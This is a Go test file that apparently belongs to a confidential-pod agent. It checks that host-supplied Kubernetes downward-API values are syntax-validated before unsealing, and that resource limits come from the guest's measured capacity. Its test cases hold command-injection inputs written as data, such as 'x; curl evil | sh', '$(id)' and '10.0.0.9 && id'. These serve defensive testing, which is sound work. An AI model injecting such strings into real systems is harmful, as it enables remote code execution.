package server

import (
	"context"
	"maps"
	"strings"
	"testing"

	"google.golang.org/grpc/codes"

	"github.com/sealpod/sealpod/agent/api"
	"github.com/sealpod/sealpod/agent/internal/brokertest"
	"github.com/sealpod/sealpod/imagebuilder/spec"
)

// Host values are data, never code: the agent checks every value the sealed spec uses by the
// syntax Kubernetes guarantees for its field, and every key against the table of fields,
// before the pod starts; a refused Unseal leaves the agent sealed.
func TestUnsealHostValues(t *testing.T) {
	b := brokertest.Start(t)
	sp := sealedSpec(spec.LogsAllow)
	sp.Containers[0].Env = append(sp.Containers[0].Env,
		spec.EnvVar{Name: "IP", FromHost: "fieldRef:status.podIP"},
		spec.EnvVar{Name: "TIER", FromHost: "fieldRef:metadata.labels['tier']"},
		spec.EnvVar{Name: "NOTE", FromHost: "fieldRef:metadata.annotations['note']"},
		spec.EnvVar{Name: "CPU", FromHost: "resourceFieldRef:limits.cpu"})
	sealed := b.Seal(t, sp, []string{"web.default.svc"})
	h := start(t, b, launchFor(b, sealed.Envelope))
	h.srv.cfg.Capacity = func() (GuestCapacity, error) { return GuestCapacity{MilliCPU: 4000, MemoryBytes: 1 << 30}, nil }
	good := map[string]string{
		"fieldRef:metadata.name":                "web-0",
		"fieldRef:status.podIP":                 "10.0.0.9",
		"fieldRef:metadata.labels['tier']":      "front_end.v1",
		"fieldRef:metadata.annotations['note']": "free text; $(anything) `goes` here",
		"resourceFieldRef:app/limits.cpu":       "1500",           // the guest's own capacity wins
		"fieldRef:spec.nodeName":                "node-1.example", // offered, not referenced: dropped
	}
	with := func(k, v string) map[string]string {
		m := map[string]string{}
		for kk, vv := range good {
			m[kk] = vv
		}
		if v == "\x00delete" {
			delete(m, k)
		} else {
			m[k] = v
		}
		return m
	}
	for _, tt := range []struct {
		name   string
		values map[string]string
		inMsg  string
	}{
		{"shell in metadata.name", with("fieldRef:metadata.name", "x; curl evil | sh"), `fieldRef:metadata.name: "x; curl evil | sh" is not a DNS-1123 subdomain`},
		{"command substitution in metadata.name", with("fieldRef:metadata.name", "$(id)"), "fieldRef:metadata.name"},
		{"upper case name", with("fieldRef:metadata.name", "Web-0"), "fieldRef:metadata.name"},
		{"pod IP with zone", with("fieldRef:status.podIP", "fe80::1%eth0;id"), "fieldRef:status.podIP"},
		{"pod IP not an IP", with("fieldRef:status.podIP", "10.0.0.9 && id"), "fieldRef:status.podIP"},
		{"label value with space", with("fieldRef:metadata.labels['tier']", "a b"), "fieldRef:metadata.labels['tier']"},
		{"resource not an integer", with("resourceFieldRef:app/limits.cpu", "1500; id"), "resourceFieldRef:app/limits.cpu"},
		{"resource negative", with("resourceFieldRef:app/limits.cpu", "-1"), "resourceFieldRef:app/limits.cpu"},
		{"unknown field", with("fieldRef:metadata.evil", "x"), `"fieldRef:metadata.evil": not a downward-API field`},
		{"unknown source", with("secretKeyRef:s/k", "x"), `"secretKeyRef:s/k"`},
		{"nodeName offered but bad", with("fieldRef:spec.nodeName", "node 1"), "fieldRef:spec.nodeName"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			_, err := h.agent.Unseal(context.Background(), &api.UnsealRequest{Envelope: sealed.Envelope, HostValues: tt.values})
			wantCode(t, err, codes.InvalidArgument, tt.inMsg)
			if h.backend.pods != 0 {
				t.Fatal("the pod started")
			}
		})
	}
	// An unset limit is the node's allocatable: the guest measures itself; the host's
	// value (still syntax-checked above) is never used.
	// Annotation values have no syntax: any text (without NUL) is accepted as an env value.
	if _, err := h.agent.Unseal(context.Background(), &api.UnsealRequest{Envelope: sealed.Envelope, HostValues: good}); err != nil {
		t.Fatalf("Unseal with good values: %v", err)
	}
	hv := h.backend.lastOpt.HostValues
	if len(hv) != 5 || hv["fieldRef:metadata.name"] != "web-0" || !strings.Contains(hv["fieldRef:metadata.annotations['note']"], "$(anything)") || hv["resourceFieldRef:app/limits.cpu"] != "4000" {
		t.Fatalf("host values reaching the pod: %q", hv)
	}
}

// TestResourceLimitsFromGuest: a resourceFieldRef to an unset limit (sealing computed every
// other one) gets the guest's capacity although the host sends nothing for it (the shim
// never does), so the container can be created; MeasureCapacity measures this machine.
func TestResourceLimitsFromGuest(t *testing.T) {
	sp := sealedSpec(spec.LogsAllow)
	sp.Containers[0].Env = append(sp.Containers[0].Env,
		spec.EnvVar{Name: "CPU", FromHost: "resourceFieldRef:limits.cpu"},
		spec.EnvVar{Name: "MEM", FromHost: "resourceFieldRef:limits.memory", Divisor: "1Mi"},
		spec.EnvVar{Name: "PEER_DISK", FromHost: "resourceFieldRef:limits.ephemeral-storage", ContainerName: "cat"})
	h := unsealedHarness(t, sp, func(c *Config) {
		c.Capacity = func() (GuestCapacity, error) {
			return GuestCapacity{MilliCPU: 2000, MemoryBytes: 3 << 30, EphemeralStorageBytes: 5 << 30}, nil
		}
	})
	want := map[string]string{"fieldRef:metadata.name": "web-0", "resourceFieldRef:app/limits.cpu": "2000",
		"resourceFieldRef:app/limits.memory": "3221225472", "resourceFieldRef:cat/limits.ephemeral-storage": "5368709120"}
	if got := h.backend.lastOpt.HostValues; !maps.Equal(got, want) {
		t.Errorf("values reaching the pod %q, want %q", got, want)
	}
	g, err := MeasureCapacity()
	if err != nil || g.MilliCPU < 1000 || g.MemoryBytes < 1<<20 || g.EphemeralStorageBytes <= 0 {
		t.Errorf("MeasureCapacity: %+v %v", g, err)
	}
}
